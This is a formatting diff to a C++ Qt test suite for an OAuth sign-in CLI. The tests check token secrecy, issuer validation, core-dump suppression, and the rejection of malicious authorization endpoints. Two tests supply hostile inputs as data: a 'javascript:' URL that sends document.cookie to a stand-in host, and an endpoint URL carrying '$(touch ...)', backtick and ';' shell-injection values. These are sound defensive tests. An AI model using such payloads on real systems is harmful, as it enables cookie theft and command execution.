@@ -35,7 +35,8 @@ int playBrowser(const QUrl &authUrl, QUrl *callback, QByteArray *page = nullptr)
 {
     QNetworkAccessManager nam;
     QNetworkRequest req(authUrl);
-    req.setAttribute(QNetworkRequest::RedirectPolicyAttribute, QNetworkRequest::ManualRedirectPolicy);
+    req.setAttribute(QNetworkRequest::RedirectPolicyAttribute,
+                     QNetworkRequest::ManualRedirectPolicy);
     QNetworkReply *r = nam.get(req);
     QSignalSpy done(r, &QNetworkReply::finished);
     done.wait(10000);
@@ -94,10 +95,13 @@ class TestOAuthCli : public QObject
             se.insert(QStringLiteral("MCP_AUTH_PORT"), QString::number(authPort));
             proc.setProcessEnvironment(se);
             proc.start(PeerProcess::node(),
-                       {PeerProcess::peersDir() + QStringLiteral("/node_modules/@modelcontextprotocol/sdk/dist/esm/examples/server/simpleStreamableHttp.js"),
+                       {PeerProcess::peersDir() +
+                            QStringLiteral("/node_modules/@modelcontextprotocol/sdk/dist/esm/"
+                                           "examples/server/simpleStreamableHttp.js"),
                         QStringLiteral("--oauth"), QStringLiteral("--oauth-strict")});
             url = QStringLiteral("http://localhost:%1/mcp").arg(mcpPort);
-            return proc.waitForStarted() && PeerProcess::portOpen(mcpPort, 20000) && PeerProcess::portOpen(authPort, 20000);
+            return proc.waitForStarted() && PeerProcess::portOpen(mcpPort, 20000) &&
+                   PeerProcess::portOpen(authPort, 20000);
         }
         ~SdkServer()
         {
@@ -107,12 +111,13 @@ class TestOAuthCli : public QObject
     };
 
     // `login --no-browser`, with this test as the browser. Returns the exit code.
-    int login(const QString &url, const QProcessEnvironment &e, QString *out, QString *errText, QUrl *authUrlOut = nullptr,
-              QString *code = nullptr, QByteArray *page = nullptr)
+    int login(const QString &url, const QProcessEnvironment &e, QString *out, QString *errText,
+              QUrl *authUrlOut = nullptr, QString *code = nullptr, QByteArray *page = nullptr)
     {
         QProcess p;
         p.setProcessEnvironment(e);
-        p.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("login"), url, QStringLiteral("--no-browser")});
+        p.start(QStringLiteral(MCPDESK_CLI),
+                {QStringLiteral("login"), url, QStringLiteral("--no-browser")});
         if (!p.waitForStarted())
             return -1;
         QUrl authUrl;
@@ -190,19 +195,25 @@ private slots:
 
         // No token, code or secret anywhere but the keychain: not in the files,
         // not in the debug logs, not on stdout.
-        const QByteArray signins = readFile(home.filePath(QStringLiteral("config/McpDesk/signins.json")));
+        const QByteArray signins =
+            readFile(home.filePath(QStringLiteral("config/McpDesk/signins.json")));
         QVERIFY(signins.contains("hasRefreshToken"));
         for (const QString &secret : {token, code}) {
             QVERIFY2(!signins.contains(secret.toUtf8()), "secret in signins.json");
-            QVERIFY2(!loginErr.contains(secret) && !loginOut.contains(secret), "secret in login output");
-            QVERIFY2(!tools.err.contains(secret) && !tools.out.contains(secret), "secret in tools output");
+            QVERIFY2(!loginErr.contains(secret) && !loginOut.contains(secret),
+                     "secret in login output");
+            QVERIFY2(!tools.err.contains(secret) && !tools.out.contains(secret),
+                     "secret in tools output");
             QVERIFY2(!info.out.contains(secret), "secret without --reveal");
         }
         QVERIFY(!loginErr.contains(QStringLiteral("code_verifier")));
         QVERIFY(!loginErr.contains(QStringLiteral("Bearer ")));
         QVERIFY(loginErr.contains(QStringLiteral("mcpdesk.auth"))); // the debug log was really on
-        for (const QString &f : QDir(home.filePath(QStringLiteral("config/McpDesk"))).entryList(QDir::Files))
-            QVERIFY2(!readFile(home.filePath(QStringLiteral("config/McpDesk/") + f)).contains(token.toUtf8()), qPrintable(f));
+        for (const QString &f :
+             QDir(home.filePath(QStringLiteral("config/McpDesk"))).entryList(QDir::Files))
+            QVERIFY2(!readFile(home.filePath(QStringLiteral("config/McpDesk/") + f))
+                          .contains(token.toUtf8()),
+                     qPrintable(f));
 
         // logout forgets it; the next call needs a sign-in again.
         Run out = cli({QStringLiteral("logout"), url}, env);
@@ -215,9 +226,11 @@ private slots:
         QString againOut, againErr;
         QUrl againUrl;
         QVERIFY2(login(url, env, &againOut, &againErr, &againUrl) == 0, qPrintable(againErr));
-        QCOMPARE(QUrlQuery(againUrl).queryItemValue(QStringLiteral("client_id")), q.queryItemValue(QStringLiteral("client_id")));
-        QCOMPARE(QUrlQuery(againUrl).queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded),
-                 q.queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded));
+        QCOMPARE(QUrlQuery(againUrl).queryItemValue(QStringLiteral("client_id")),
+                 q.queryItemValue(QStringLiteral("client_id")));
+        QCOMPARE(
+            QUrlQuery(againUrl).queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded),
+            q.queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded));
         QCOMPARE(cli({QStringLiteral("tools"), url}, env).code, 0);
         QCOMPARE(cli({QStringLiteral("logout"), url}, env).code, 0);
     }
@@ -229,15 +242,18 @@ private slots:
         SdkServer server;
         QVERIFY(server.start());
         QProcessEnvironment e = env;
-        e.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"), QStringLiteral("unix:path=/nonexistent/no-bus"));
+        e.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"),
+                 QStringLiteral("unix:path=/nonexistent/no-bus"));
         e.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("nokeychain")));
         QString out, errText, code;
         QCOMPARE(login(server.url, e, &out, &errText, nullptr, &code), 0);
         QVERIFY2(out.contains(QStringLiteral("not kept: no keychain")), qPrintable(out));
         QVERIFY2(errText.contains(QStringLiteral("will not be kept")), qPrintable(errText));
         QCOMPARE(cli({QStringLiteral("tools"), server.url}, e).code, 6); // nothing was kept
-        for (const QString &f : QDir(home.filePath(QStringLiteral("nokeychain/McpDesk"))).entryList(QDir::Files))
-            QVERIFY(!readFile(home.filePath(QStringLiteral("nokeychain/McpDesk/") + f)).contains(code.toUtf8()));
+        for (const QString &f :
+             QDir(home.filePath(QStringLiteral("nokeychain/McpDesk"))).entryList(QDir::Files))
+            QVERIFY(!readFile(home.filePath(QStringLiteral("nokeychain/McpDesk/") + f))
+                         .contains(code.toUtf8()));
     }
 
     // A crash while signed in and mid-call, debug logging on: nothing it prints holds
@@ -248,7 +264,8 @@ private slots:
         QVERIFY(server.start());
         QString out, errText;
         QCOMPARE(login(server.url, env, &out, &errText), 0);
-        const Run revealed = cli({QStringLiteral("token"), server.url, QStringLiteral("--reveal")}, env);
+        const Run revealed =
+            cli({QStringLiteral("token"), server.url, QStringLiteral("--reveal")}, env);
         const QString token = revealed.out.section(QStringLiteral("access token: "), 1).trimmed();
         QVERIFY(token.size() >= 16);
         for (int sig : {SIGSEGV, SIGABRT}) {
@@ -258,7 +275,8 @@ private slots:
                 if (allowCores)
                     e.insert(QStringLiteral("MCPDESK_ALLOW_CORE_DUMPS"), QStringLiteral("1"));
                 // AddressSanitizer turns core dumps off by itself; here the CLI must.
-                e.insert(QStringLiteral("ASAN_OPTIONS"), e.value(QStringLiteral("ASAN_OPTIONS")) + QStringLiteral(":disable_coredump=0"));
+                e.insert(QStringLiteral("ASAN_OPTIONS"), e.value(QStringLiteral("ASAN_OPTIONS")) +
+                                                             QStringLiteral(":disable_coredump=0"));
                 QProcess p;
                 p.setProcessEnvironment(e);
                 p.setWorkingDirectory(cwd.path());
@@ -267,15 +285,23 @@ private slots:
                     const rlimit any{RLIM_INFINITY, RLIM_INFINITY};
                     ::setrlimit(RLIMIT_CORE, &any);
                 });
-                p.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("call"), server.url, QStringLiteral("multi-greet"),
-                                                      QStringLiteral("--args"), QStringLiteral("{\"name\":\"crash\"}")});
+                p.start(QStringLiteral(MCPDESK_CLI),
+                        {QStringLiteral("call"), server.url, QStringLiteral("multi-greet"),
+                         QStringLiteral("--args"), QStringLiteral("{\"name\":\"crash\"}")});
                 QVERIFY(p.waitForStarted());
                 QString err;
-                QTRY_VERIFY_WITH_TIMEOUT((err += QString::fromUtf8(p.readAllStandardError())).contains(QStringLiteral("log ")), 10000);
-                const QByteArray limits = readFile(QStringLiteral("/proc/%1/limits").arg(p.processId()));
-                const QByteArray coreLine = limits.mid(limits.indexOf("Max core file size")).split('\n').value(0).simplified();
-                QCOMPARE(coreLine, allowCores ? QByteArray("Max core file size unlimited unlimited bytes")
-                                              : QByteArray("Max core file size 0 0 bytes"));
+                QTRY_VERIFY_WITH_TIMEOUT((err += QString::fromUtf8(p.readAllStandardError()))
+                                             .contains(QStringLiteral("log ")),
+                                         10000);
+                const QByteArray limits =
+                    readFile(QStringLiteral("/proc/%1/limits").arg(p.processId()));
+                const QByteArray coreLine = limits.mid(limits.indexOf("Max core file size"))
+                                                .split('\n')
+                                                .value(0)
+                                                .simplified();
+                QCOMPARE(coreLine, allowCores
+                                       ? QByteArray("Max core file size unlimited unlimited bytes")
+                                       : QByteArray("Max core file size 0 0 bytes"));
                 if (allowCores) {
                     p.kill();
                     p.waitForFinished();
@@ -288,10 +314,12 @@ private slots:
                 QVERIFY(p.exitStatus() == QProcess::CrashExit || p.exitCode() != 0);
                 err += QString::fromUtf8(p.readAllStandardError());
                 const QString all = err + QString::fromUtf8(p.readAllStandardOutput());
-                QVERIFY2(all.contains(QStringLiteral("mcpdesk.")), qPrintable(all)); // debug logging was on
+                QVERIFY2(all.contains(QStringLiteral("mcpdesk.")),
+                         qPrintable(all)); // debug logging was on
                 QVERIFY2(!all.contains(token), "the token in the crash output");
                 QVERIFY(!all.contains(QStringLiteral("Bearer ")));
-                QCOMPARE(QDir(cwd.path()).entryList(QDir::Files | QDir::Hidden), QStringList()); // no core file
+                QCOMPARE(QDir(cwd.path()).entryList(QDir::Files | QDir::Hidden),
+                         QStringList()); // no core file
             }
         }
         QCOMPARE(cli({QStringLiteral("logout"), server.url}, env).code, 0);
@@ -314,7 +342,8 @@ private slots:
         for (int i = 0; i < 12; ++i) {
             QProcess p;
             p.setProcessEnvironment(env);
-            p.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("login"), b.url, QStringLiteral("--no-browser")});
+            p.start(QStringLiteral(MCPDESK_CLI),
+                    {QStringLiteral("login"), b.url, QStringLiteral("--no-browser")});
             QVERIFY(p.waitForStarted());
             QString loginErr;
             QUrl authUrl;
@@ -322,7 +351,8 @@ private slots:
             while (!authUrl.isValid() && !deadline.hasExpired() && p.state() == QProcess::Running) {
                 p.waitForReadyRead(50);
                 loginErr += QString::fromUtf8(p.readAllStandardError());
-                const auto m = QRegularExpression(QStringLiteral("\\n  (http\\S+)\\n")).match(loginErr);
+                const auto m =
+                    QRegularExpression(QStringLiteral("\\n  (http\\S+)\\n")).match(loginErr);
                 if (m.hasMatch())
                     authUrl = QUrl::fromEncoded(m.captured(1).toUtf8());
             }
@@ -341,10 +371,12 @@ private slots:
             const Run bNow = cli({QStringLiteral("tools"), b.url}, env);
             QVERIFY2(bNow.code == 0 || bNow.code == 6, qPrintable(bNow.err));
             if (bNow.code == 6)
-                QVERIFY2(bNow.err.contains(QStringLiteral("mcpdesk-cli login")), qPrintable(bNow.err));
+                QVERIFY2(bNow.err.contains(QStringLiteral("mcpdesk-cli login")),
+                         qPrintable(bNow.err));
             ++(bNow.code == 0 ? killedSignedIn : killedNotSignedIn);
         }
-        qInfo("killed during sign-in 12 times: %d left B signed in, %d not yet", killedSignedIn, killedNotSignedIn);
+        qInfo("killed during sign-in 12 times: %d left B signed in, %d not yet", killedSignedIn,
+              killedNotSignedIn);
         errText.clear();
         QVERIFY2(login(b.url, env, &out, &errText) == 0, qPrintable(errText));
         QCOMPARE(cli({QStringLiteral("tools"), b.url}, env).code, 0);
@@ -356,14 +388,17 @@ private slots:
     void javascriptEndpointRefused()
     {
         PeerProcess fake;
-        QVERIFY(fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
-                                 {QStringLiteral("--mode"), QStringLiteral("oauth-evil"), QStringLiteral("--auth-endpoint"),
-                                  QStringLiteral("javascript:fetch('http://x/'+document.cookie)")}));
+        QVERIFY(
+            fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
+                             {QStringLiteral("--mode"), QStringLiteral("oauth-evil"),
+                              QStringLiteral("--auth-endpoint"),
+                              QStringLiteral("javascript:fetch('http://x/'+document.cookie)")}));
         QTemporaryDir bin;
         const QString record = bin.filePath(QStringLiteral("opened.txt"));
         writeFakeOpener(bin.path(), record);
         QProcessEnvironment e = env;
-        e.insert(QStringLiteral("PATH"), bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
+        e.insert(QStringLiteral("PATH"),
+                 bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
         const Run r = cli({QStringLiteral("login"), fake.url().toString()}, e);
         QCOMPARE(r.code, 6);
         QVERIFY2(r.err.contains(QStringLiteral("will not open")), qPrintable(r.err));
@@ -377,16 +412,22 @@ private slots:
         QTemporaryDir bin;
         const QString marker = bin.filePath(QStringLiteral("pwned"));
         PeerProcess fake;
-        QVERIFY(fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
-                                 {QStringLiteral("--mode"), QStringLiteral("oauth-evil"), QStringLiteral("--auth-endpoint"),
-                                  QStringLiteral("http://127.0.0.1:9/authorize?a=$(touch %1)&b=`touch %1`;touch %1").arg(marker)}));
+        QVERIFY(fake.startScript(
+            QStringLiteral("fake-mcp-server.mjs"),
+            {QStringLiteral("--mode"), QStringLiteral("oauth-evil"),
+             QStringLiteral("--auth-endpoint"),
+             QStringLiteral("http://127.0.0.1:9/authorize?a=$(touch %1)&b=`touch %1`;touch %1")
+                 .arg(marker)}));
         const QString record = bin.filePath(QStringLiteral("opened.txt"));
         writeFakeOpener(bin.path(), record);
         QProcessEnvironment e = env;
-        e.insert(QStringLiteral("PATH"), bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
+        e.insert(QStringLiteral("PATH"),
+                 bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
         QProcess login;
         login.setProcessEnvironment(e);
-        login.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("login"), fake.url().toString(), QStringLiteral("--timeout"), QStringLiteral("3")});
+        login.start(QStringLiteral(MCPDESK_CLI),
+                    {QStringLiteral("login"), fake.url().toString(), QStringLiteral("--timeout"),
+                     QStringLiteral("3")});
         QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(record), 10000);
         login.kill();
         login.waitForFinished();
@@ -402,14 +443,18 @@ private slots:
     {
         PeerProcess as;
         QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
-                               {QStringLiteral("--deny"), QStringLiteral("The user cancelled the request"),
+                               {QStringLiteral("--deny"),
+                                QStringLiteral("The user cancelled the request"),
                                 QStringLiteral("--iss-supported")}));
         QString out, errText;
         QByteArray page;
-        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("decline")), &out, &errText, nullptr, nullptr, &page), 6);
-        QVERIFY2(errText.contains(QStringLiteral("The sign-in was declined. The sign-in server said: "
-                                                 "“The user cancelled the request”")),
-                 qPrintable(errText));
+        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("decline")), &out, &errText,
+                       nullptr, nullptr, &page),
+                 6);
+        QVERIFY2(
+            errText.contains(QStringLiteral("The sign-in was declined. The sign-in server said: "
+                                            "“The user cancelled the request”")),
+            qPrintable(errText));
         QVERIFY2(page.contains("The user cancelled the request"), page.constData());
     }
 
@@ -421,13 +466,17 @@ private slots:
         QTest::addColumn<QStringList>("serverArgs");
         const QString deny = QStringLiteral("--deny");
         const QString forged = QStringLiteral("Forged words");
-        QTest::newRow("code, iss with a slash added") << QStringList{QStringLiteral("--iss"), QStringLiteral("slash")};
-        QTest::newRow("code, another iss") << QStringList{QStringLiteral("--iss"), QStringLiteral("wrong")};
-        QTest::newRow("code, iss missing though promised")
-            << QStringList{QStringLiteral("--iss"), QStringLiteral("none"), QStringLiteral("--iss-supported")};
-        QTest::newRow("error, another iss") << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("wrong")};
+        QTest::newRow("code, iss with a slash added")
+            << QStringList{QStringLiteral("--iss"), QStringLiteral("slash")};
+        QTest::newRow("code, another iss")
+            << QStringList{QStringLiteral("--iss"), QStringLiteral("wrong")};
+        QTest::newRow("code, iss missing though promised") << QStringList{
+            QStringLiteral("--iss"), QStringLiteral("none"), QStringLiteral("--iss-supported")};
+        QTest::newRow("error, another iss")
+            << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("wrong")};
         QTest::newRow("error, iss missing though promised")
-            << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("none"), QStringLiteral("--iss-supported")};
+            << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("none"),
+                           QStringLiteral("--iss-supported")};
     }
     void answerFromAnotherIssuerIgnored()
     {
@@ -436,11 +485,16 @@ private slots:
         QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"), serverArgs));
         QString out, errText;
         QByteArray page;
-        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("iss")), &out, &errText, nullptr, nullptr, &page), 6);
-        QVERIFY2(errText.contains(QStringLiteral("did not come from http://127.0.0.1:%1; McpDesk ignored it").arg(as.port())),
+        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("iss")), &out, &errText,
+                       nullptr, nullptr, &page),
+                 6);
+        QVERIFY2(errText.contains(
+                     QStringLiteral("did not come from http://127.0.0.1:%1; McpDesk ignored it")
+                         .arg(as.port())),
                  qPrintable(errText));
         QVERIFY2(!errText.contains(QStringLiteral("Forged")), qPrintable(errText));
-        QVERIFY2(page.contains("did not come from the sign-in server McpDesk asked"), page.constData());
+        QVERIFY2(page.contains("did not come from the sign-in server McpDesk asked"),
+                 page.constData());
         QVERIFY(!page.contains("Forged"));
         // No code was exchanged (the server prints its lines in order: wait for the
         // browser's visit to be read, then for anything that would follow it).
@@ -453,14 +507,19 @@ private slots:
     void metadataIssuerWithAddedSlashRefused()
     {
         PeerProcess as;
-        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"), {QStringLiteral("--metadata-issuer-slash")}));
-        const Run r = cli({QStringLiteral("login"), as.url().toString(), QStringLiteral("--no-browser")},
-                          isolated(QStringLiteral("metadata")));
+        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
+                               {QStringLiteral("--metadata-issuer-slash")}));
+        const Run r =
+            cli({QStringLiteral("login"), as.url().toString(), QStringLiteral("--no-browser")},
+                isolated(QStringLiteral("metadata")));
         QCOMPARE(r.code, 6);
-        QVERIFY2(r.err.contains(QStringLiteral("names issuer “http://127.0.0.1:%1/” instead of “http://127.0.0.1:%1”")
-                                    .arg(as.port())),
+        QVERIFY2(r.err.contains(
+                     QStringLiteral(
+                         "names issuer “http://127.0.0.1:%1/” instead of “http://127.0.0.1:%1”")
+                         .arg(as.port())),
                  qPrintable(r.err));
-        QVERIFY(!r.err.contains(QStringLiteral("Open this address"))); // no browser was asked to open anything
+        QVERIFY(!r.err.contains(
+            QStringLiteral("Open this address"))); // no browser was asked to open anything
     }
 
     // A token stored by another process that expires within the minute is renewed
@@ -468,19 +527,23 @@ private slots:
     void nearExpiryRenewedBeforeUse()
     {
         PeerProcess as;
-        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"), {QStringLiteral("--token-seconds"), QStringLiteral("30")}));
+        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
+                               {QStringLiteral("--token-seconds"), QStringLiteral("30")}));
         const QProcessEnvironment e = isolated(QStringLiteral("renew"));
         QString out, errText;
         QVERIFY2(login(as.url().toString(), e, &out, &errText) == 0, qPrintable(errText));
-        QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("mcp tools/list ok")), 5000); // login's last
+        QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("mcp tools/list ok")),
+                                 5000); // login's last
         const qsizetype before = as.lines().size();
         const Run tools = cli({QStringLiteral("tools"), as.url().toString()}, e);
         QVERIFY2(tools.code == 0, qPrintable(tools.err));
         QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("mcp tools/list ok")) &&
-                                     as.lines().lastIndexOf(QStringLiteral("mcp tools/list ok")) >= before,
+                                     as.lines().lastIndexOf(QStringLiteral("mcp tools/list ok")) >=
+                                         before,
                                  5000);
         const QStringList after = as.lines().mid(before);
-        QVERIFY2(!after.isEmpty() && after.first().startsWith(QStringLiteral("refresh rt-1-")), qPrintable(after.join(QLatin1Char('|'))));
+        QVERIFY2(!after.isEmpty() && after.first().startsWith(QStringLiteral("refresh rt-1-")),
+                 qPrintable(after.join(QLatin1Char('|'))));
         QVERIFY(!after.contains(QStringLiteral("mcp initialize 401")));
         QCOMPARE(cli({QStringLiteral("logout"), as.url().toString()}, e).code, 0);
     }
@@ -495,9 +558,12 @@ private slots:
                            QStringLiteral("Authorization: Bearer not-a-real-token")},
                           isolated(QStringLiteral("given")));
         QCOMPARE(r.code, 6);
-        QVERIFY2(r.err.contains(QStringLiteral("the server refused the token given with --header (HTTP 401: invalid_token)")),
+        QVERIFY2(r.err.contains(QStringLiteral(
+                     "the server refused the token given with --header (HTTP 401: invalid_token)")),
                  qPrintable(r.err));
-        QVERIFY2(!r.err.contains(QStringLiteral("login")) && !r.err.contains(QStringLiteral("sign in")), qPrintable(r.err));
+        QVERIFY2(!r.err.contains(QStringLiteral("login")) &&
+                     !r.err.contains(QStringLiteral("sign in")),
+                 qPrintable(r.err));
         QVERIFY(!r.err.contains(QStringLiteral("not-a-real-token")));
     }
 
@@ -514,7 +580,9 @@ private:
     {
         QFile f(dir + QStringLiteral("/xdg-open"));
         QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write(QStringLiteral("#!/bin/sh\nprintf 'argc=%s\\n%s\\n' \"$#\" \"$1\" > '%1'\n").arg(record).toUtf8());
+        f.write(QStringLiteral("#!/bin/sh\nprintf 'argc=%s\\n%s\\n' \"$#\" \"$1\" > '%1'\n")
+                    .arg(record)
+                    .toUtf8());
         f.close();
         f.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
     }
